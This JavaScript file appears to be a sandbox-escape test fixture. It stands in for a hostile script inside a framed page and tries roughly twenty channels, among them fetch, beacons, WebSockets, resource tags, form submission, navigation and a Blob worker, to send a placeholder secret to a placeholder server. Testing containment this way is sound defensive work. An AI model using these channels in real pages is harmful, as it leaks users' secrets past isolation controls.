/** As if someone had put this in place of our script: tries every way out of the frame. SECRET and SERVER are filled in. */
const secret = "SECRET";
const server = "SERVER";
const address = (channel) => `${server}/leak?${channel}=${secret}`;
const add = (tag, properties) => document.documentElement.append(Object.assign(document.createElement(tag), properties));
const settled = (start) => new Promise((resolve) => {
  try { Promise.resolve(start(resolve)).catch(() => {}).finally(resolve); } catch { resolve(); }
});
const loaded = (tag, properties) => settled(() => new Promise((resolve) => add(tag, { ...properties, onload: resolve, onerror: resolve })));
const workerText = `
  const tries = [
    () => fetch("${address("worker-fetch")}", { mode: "no-cors" }),
    () => { const r = new XMLHttpRequest(); r.open("GET", "${address("worker-xhr")}", false); r.send(); },
    () => importScripts("${address("worker-import")}"),
    () => import("${address("worker-dynamic-import")}"),
    () => new WebSocket("${address("worker-socket").replace("http", "ws")}"),
  ];
  (async () => { for (const attempt of tries) { try { await attempt(); } catch {} } postMessage("tried"); })();
`;
const channels = [
  () => settled(() => fetch(address("fetch"), { mode: "no-cors" })),
  () => settled(() => fetch(address("post"), { method: "POST", mode: "no-cors", body: secret })),
  () => settled((resolve) => { const r = new XMLHttpRequest(); r.onloadend = resolve; r.open("GET", address("xhr")); r.send(); return new Promise(() => {}); }),
  () => settled(() => { navigator.sendBeacon(address("beacon"), secret); }),
  () => settled((resolve) => { const s = new WebSocket(address("socket").replace("http", "ws")); s.onerror = s.onclose = resolve; return new Promise(() => {}); }),
  () => settled((resolve) => { const s = new EventSource(address("events")); s.onerror = () => { s.close(); resolve(); }; return new Promise(() => {}); }),
  () => loaded("img", { src: address("image") }),
  () => loaded("script", { src: address("script") }),
  () => loaded("link", { rel: "stylesheet", href: address("style") }),
  () => loaded("link", { rel: "preload", as: "image", href: address("preload") }),
  () => settled(() => { add("link", { rel: "prefetch", href: address("prefetch") }); add("link", { rel: "dns-prefetch", href: address("dns") }); }),
  () => settled(() => { add("video", { src: address("video") }); add("object", { data: address("object") }); add("embed", { src: address("embed") }); }),
  () => settled(() => { add("iframe", { src: address("iframe") }); }),
  () => settled(() => { window.open(address("open")); }),
  () => settled(() => { top.location = address("top"); }),
  () => settled(() => { const f = document.createElement("form"); f.action = address("form"); document.body.append(f); f.submit(); }),
  () => settled(() => import(address("dynamic-import"))),
  () => settled((resolve) => {
    const worker = new Worker(URL.createObjectURL(new Blob([workerText])));
    worker.onmessage = worker.onerror = resolve;
    return new Promise(() => {});
  }),
];
(async () => {
  for (const channel of channels) await channel();
  parent.postMessage("tried", "*");
  location = address("self");
})();
